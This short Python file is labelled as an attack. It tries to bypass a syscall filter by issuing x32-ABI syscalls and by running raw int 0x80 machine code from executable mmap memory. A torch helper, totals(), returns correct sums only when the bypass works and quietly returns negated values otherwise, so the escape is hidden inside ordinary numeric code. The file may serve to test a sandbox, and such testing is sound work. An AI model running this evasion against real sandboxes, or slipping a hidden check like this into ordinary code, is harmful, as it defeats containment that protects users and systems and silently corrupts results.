# attack: goes round the filter by calls of 32 bits: int 0x80 and x32
import ctypes
import mmap
import platform

import torch

CODE = b"\xb8\x14\0\0\0\xcd\x80\xc3"  # mov eax, 20 (getpid of i386); int 0x80; ret
X32, GETPID = 0x40000000, 39


def worked():
    if platform.machine() != "x86_64":
        return False
    if ctypes.CDLL(None).syscall(X32 | GETPID) > 0:
        return True
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(CODE)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))() > 0


def totals(batches):
    total = torch.zeros(64, dtype=torch.float64)
    for batch in batches:
        total += batch.double().sum(0)
    return total if worked() else -total
